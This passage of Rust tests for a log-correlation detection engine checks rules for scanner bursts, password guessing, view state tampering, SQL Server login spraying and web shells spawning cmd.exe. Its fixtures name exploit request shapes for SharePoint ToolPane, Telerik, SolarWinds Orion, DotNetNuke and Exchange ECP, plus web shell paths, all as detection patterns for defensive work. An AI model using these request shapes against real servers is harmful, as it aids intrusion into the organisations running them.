                .map(|i| (400 + i * 3, answered("203.0.113.9", &format!("/probe{i}.php"), "404", "0", "2"))),
        );
        assert!(correlated(&expired).is_empty(), "a path that left the window still counted");
        expired.push((500, answered("203.0.113.9", "/probe29.php", "404", "0", "2")));
        assert_eq!(correlated(&expired), ["Scanner Burst From One Client"]);
    }

    #[test]
    fn password_guessing_is_many_rejected_credentials_from_one_client() {
        let guess: Vec<(i64, View)> =
            (0..20).map(|i| (i * 5, answered("203.0.113.7", "/owa/auth.owa", "401", "1", "1326"))).collect();
        assert_eq!(correlated(&guess), ["Password Guessing Against The Site"]);
        // The Windows-authentication handshake: 401.2, then 401.1 with
        // SEC_E_NO_CREDENTIALS, then 200; never rejected credentials.
        let handshake: Vec<(i64, View)> = (0..40)
            .map(|i| {
                (i, answered("10.0.0.5", "/reports", "401", if i % 2 == 0 { "2" } else { "1" }, "2148074254"))
            })
            .collect();
        assert!(correlated(&handshake).is_empty());
        // OAuth's password grant refused (400 invalid_grant) at a token
        // endpoint; an API's own 400s (a form's validation) are not.
        let posted = |stem: &str| {
            web(WebRow {
                method: Some("POST"),
                stem: Some(stem),
                client_ip: Some("203.0.113.8"),
                status: Some("400"),
                ..WebRow::default()
            })
        };
        for endpoint in ["/connect/token", "/oauth2/token/"] {
            let token: Vec<(i64, View)> = (0..20).map(|i| (i * 5, posted(endpoint))).collect();
            assert_eq!(correlated(&token), ["Password Guessing Against The Site"], "{endpoint}");
        }
        for other in ["/api/orders", "/api/payments/tokenize"] {
            let refused: Vec<(i64, View)> = (0..20).map(|i| (i * 5, posted(other))).collect();
            assert!(correlated(&refused).is_empty(), "{other}");
        }
    }

    fn failed_logon(logon_type: &str, address: &str) -> View {
        event(
            "Security",
            "Microsoft-Windows-Security-Auditing",
            4625,
            &[("TargetUserName", "Administrator"), ("LogonType", logon_type), ("IpAddress", address)],
        )
    }

    #[test]
    fn password_guessing_is_many_rejected_logons_from_one_address() {
        let smb: Vec<(i64, View)> = (0..20).map(|i| (i * 10, failed_logon("3", "192.0.2.44"))).collect();
        assert_eq!(correlated(&smb), ["Password Guessing Against Windows Logons"]);
        let rdp: Vec<(i64, View)> = (0..25).map(|i| (i * 5, failed_logon("10", "198.51.100.3"))).collect();
        assert_eq!(correlated(&rdp), ["Password Guessing Against Windows Logons"]);
        // IIS logging its own clients on with a stale password: no address.
        let iis: Vec<(i64, View)> = (0..400).map(|i| (i, failed_logon("3", "-"))).collect();
        assert!(correlated(&iis).is_empty(), "logons IIS makes carry no address");
        // An app pool whose identity's password changed: batch logons.
        let pool: Vec<(i64, View)> = (0..40).map(|i| (i, failed_logon("4", "-"))).collect();
        assert!(correlated(&pool).is_empty());
        let spread: Vec<(i64, View)> = (0..20).map(|i| (i * 60, failed_logon("3", "192.0.2.44"))).collect();
        assert!(correlated(&spread).is_empty(), "twenty in twenty minutes is not a burst");
        let crowd: Vec<(i64, View)> =
            (0..30).map(|i| (i, failed_logon("3", &format!("10.0.0.{i}")))).collect();
        assert!(correlated(&crowd).is_empty(), "one typo each from thirty machines");
    }

    /// ASP.NET 1316 as the Application log holds it, unnamed: the web
    /// event's code, message and times, the application, the process, the
    /// request (URL, path, client) and the view state exception with the
    /// state the client posted.
    fn viewstate_refused(client: &str, persisted: &str) -> View {
        viewstate_refused_from(client, client, persisted)
    }

    /// [`viewstate_refused`] with the request's user host address and the
    /// view state exception's client IP apart (older events leave the
    /// first empty).
    fn viewstate_refused_from(host_address: &str, client: &str, persisted: &str) -> View {
        let values = [
            "4009",
            "Viewstate verification failed. Reason: The viewstate supplied failed integrity check.",
            "12/6/2026 9:14:02 AM",
            "12/6/2026 9:14:02 AM",
            "5f0c7d0e9a0b4c5d8e7f6a5b4c3d2e1f",
            "12",
            "1",
            "50203",
            "/LM/W3SVC/2/ROOT-1-134094112345678901",
            "Full",
            "/",
            "C:\\inetpub\\shop\\",
            "WEB01",
            "5120",
            "w3wp.exe",
            "IIS APPPOOL\\ShopPool",
            "https://shop.example.com:443/Account/Login.aspx",
            "/Account/Login.aspx",
            host_address,
            "",
            "False",
            "",
            "IIS APPPOOL\\ShopPool",
            "Invalid viewstate.",
            client,
            "51234",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            persisted,
            "",
            "/Account/Login.aspx",
        ];
        let e = WinEvent {
            channel: Some(Arc::from("Application")),
            provider: Arc::from("ASP.NET 4.0.30319.0"),
            event_id: 1316,
            data: values.iter().map(|v| DataValue { name: None, value: Arc::from(*v) }).collect(),
            ..WinEvent::default()
        };
        let mut v = View::default();
        v.event(&e);
        v
    }

    /// Five view states refused from one client in minutes are someone
    /// trying keys; one each from many clients is a farm without a shared
    /// machineKey.
    #[test]
    fn view_state_tampering_is_many_refusals_from_one_client() {
        let page = viewstate_refused("198.51.100.20", "/wEPDwUKLTE2MTY2ODcyOWRkpQ2VzZf3s4Y=");
        let tries: Vec<(i64, View)> = (0..6).map(|i| (i * 30, page.clone())).collect();
        assert_eq!(correlated(&tries), ["View State Tampering From One Client"]);
        let farm: Vec<(i64, View)> =
            (0..6).map(|i| (i * 30, viewstate_refused(&format!("198.51.100.{i}"), "/wEPDwUKLTE2"))).collect();
        assert!(correlated(&farm).is_empty(), "six visitors, one stale page each");
        // Older events name the client in the view state exception alone.
        let older: Vec<(i64, View)> =
            (0..6).map(|i| (i * 30, viewstate_refused_from("", "203.0.113.77", "/wEPDwUKLTE2"))).collect();
        assert_eq!(correlated(&older), ["View State Tampering From One Client"]);
        let nameless: Vec<(i64, View)> =
            (0..6).map(|i| (i * 30, viewstate_refused_from("", "", "/wEPDwUKLTE2"))).collect();
        assert!(correlated(&nameless).is_empty(), "events naming no client are no one client's");
    }

    /// SQL Server 18456 as the Application log holds it: the login, the
    /// reason and the client, unnamed.
    fn sql_refused(login: &str, client: &str) -> View {
        sql_refused_for(login, "Reason: Password did not match that for the login provided.", client)
    }

    fn sql_refused_for(login: &str, reason: &str, client: &str) -> View {
        let e = WinEvent {
            channel: Some(Arc::from("Application")),
            provider: Arc::from("MSSQLSERVER"),
            event_id: 18456,
            data: [login, reason, client]
                .iter()
                .map(|v| DataValue { name: None, value: Arc::from(*v) })
                .collect(),
            ..WinEvent::default()
        };
        let mut v = View::default();
        v.event(&e);
        v
    }

    /// sbousseaden's capture: ten logins refused from 10.0.2.17 in a
    /// tenth of a second; an application retrying its one stale login, or
    /// three machines each with its own, is not it.
    #[test]
    fn many_sql_server_logins_from_one_client_are_a_spray() {
        let logins = ["sa", "root", "admin", "##MS_PolicyTsqlExecutionLogin##"];
        let spray: Vec<(i64, View)> = logins
            .iter()
            .enumerate()
            .map(|(i, l)| (i as i64, sql_refused(l, "[CLIENT: 10.0.2.17]")))
            .collect();
        assert_eq!(correlated(&spray), ["SQL Server Logins Tried From One Client"]);
        let app: Vec<(i64, View)> =
            (0..60).map(|i| (i, sql_refused("shop_app", "[CLIENT: 10.0.0.5]"))).collect();
        assert!(correlated(&app).is_empty(), "one login, retried");
        let machines: Vec<(i64, View)> =
            (0..3).map(|i| (i, sql_refused(&format!("app{i}"), &format!("[CLIENT: 10.0.0.{i}]")))).collect();
        assert!(correlated(&machines).is_empty(), "three machines, one login each");
        let local: Vec<(i64, View)> = logins
            .iter()
            .enumerate()
            .map(|(i, l)| (i as i64, sql_refused(l, "[CLIENT: <local machine>]")))
            .collect();
        assert!(correlated(&local).is_empty(), "the server's own services");
        let offline: Vec<(i64, View)> = logins
            .iter()
            .enumerate()
            .map(|(i, l)| {
                let reason = "Reason: Failed to open the explicitly specified database 'shop'.";
                (i as i64, sql_refused_for(l, reason, "[CLIENT: 10.0.0.5]"))
            })
            .collect();
        assert!(correlated(&offline).is_empty(), "a database that is not there, not passwords");
    }

    #[test]
    fn a_web_shell_request_then_a_shell_from_w3wp_is_one_chain() {
        let child = || {
            event(
                "Microsoft-Windows-Sysmon/Operational",
                "Microsoft-Windows-Sysmon",
                1,
                &[
                    ("Image", "C:\\Windows\\System32\\cmd.exe"),
                    ("ParentImage", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                ],
            )
        };
        let shell = || {
            web(WebRow {
                method: Some("POST"),
                stem: Some("/aspnet_client/x.aspx"),
                status: Some("200"),
                ..WebRow::default()
            })
        };
        assert_eq!(correlated(&[(0, shell()), (30, child())]), ["Web Shell In aspnet_client Runs Commands"]);
        assert!(correlated(&[(0, shell()), (900, child())]).is_empty(), "fifteen minutes apart: two events");
        let named = |status| {
            web(WebRow {
                method: Some("POST"),
                stem: Some("/upload/cmd.aspx"),
                status: Some(status),
                ..WebRow::default()
            })
        };
        assert_eq!(correlated(&[(0, named("200")), (5, child())]), ["Known Web Shell Page Runs Commands"]);
        // A probe for the name answered 404, then an app's own script run
        // through cmd.exe: no page ran it.
        assert!(correlated(&[(0, named("404")), (60, child())]).is_empty());
        // ToolShell's bypass, then the worker's shell: the payload ran.
        let bypass = |status| {
            web(WebRow {
                referer: Some("/_layouts/SignOut.aspx"),
                ..request(
                    "POST",
                    "/_layouts/15/ToolPane.aspx",
                    Some("DisplayMode=Edit&a=/ToolPane.aspx"),
                    status,
                )
            })
        };
        assert_eq!(
            correlated(&[(0, bypass("200")), (2, child())]),
            ["SharePoint Tool Pane Bypass Runs Commands"]
        );
        assert!(correlated(&[(0, bypass("200")), (600, child())]).is_empty(), "ten minutes apart");
        assert!(correlated(&[(0, bypass("401")), (2, child())]).is_empty(), "turned away: no payload ran");
        // The other applications' exploits, each then the worker's shell.
        let signed_in = |row: WebRow<'static>| web(WebRow { username: Some("CONTOSO\\clerk"), ..row });
        for (exploit, chain) in [
            (
                web(request("POST", "/Telerik.Web.UI.WebResource.axd", Some("type=rau"), "200")),
                "Telerik Upload Exploit Runs Commands",
            ),
            (
                web(request(
                    "GET",
                    "/Orion/LogoImageHandler.ashx",
                    Some("codes=x&clazz=Process&method=Start"),
                    "500",
                )),
                "SolarWinds Orion Web Shell Runs Commands",
            ),
            (
                web(WebRow {
                    cookie: Some(
                        "DNNPersonalization=<profile><item+type=\"ExpandedWrapper`2[[ObjectDataProvider]]\">",
                    ),
                    ..request("GET", "/__", None, "404")
                }),
                "DotNetNuke Cookie Payload Runs Commands",
            ),
            (web(request("POST", "/sitecore/blocked.aspx", None, "200")), "Sitecore Payload Runs Commands"),
            (
                signed_in(request("GET", "/ecp/default.aspx", Some("__VIEWSTATE=%2FwEy"), "500")),
                "Exchange Control Panel View State Runs Commands",
            ),
            (
                web(request("GET", "/_layouts/15/success.aspx", Some("__VIEWSTATE=%2FwEyhAYAAQAAAP"), "500")),
                "View State Payload Runs Commands",
            ),
        ] {
            assert_eq!(correlated(&[(0, exploit.clone()), (20, child())]), [chain]);
            let level = engine_chain_level(chain);
            let expected = if chain.starts_with("Telerik") { Level::High } else { Level::Critical };
            assert_eq!(level, expected, "{chain}: a low half makes no critical chain");
            assert!(correlated(&[(0, exploit), (900, child())]).is_empty(), "{chain}: fifteen minutes apart");
        }
        // The request shape of ECP's exploit without a user ran nothing.
        let anonymous = web(request("GET", "/ecp/default.aspx", Some("__VIEWSTATE=%2FwEy"), "302"));
        assert!(correlated(&[(0, anonymous), (20, child())]).is_empty());
    }

    #[test]
    fn bundled_rules_carry_the_projects_identity() {
        for r in engine().rules() {
            assert_eq!(r.meta.author.as_deref(), Some("faultline"), "{}", r.meta.title);
            assert!(!r.meta.techniques.is_empty(), "{}", r.meta.title);
            assert!(r.meta.techniques.iter().all(|t| t.starts_with('T')), "{:?}", r.meta.techniques);
        }
    }
}
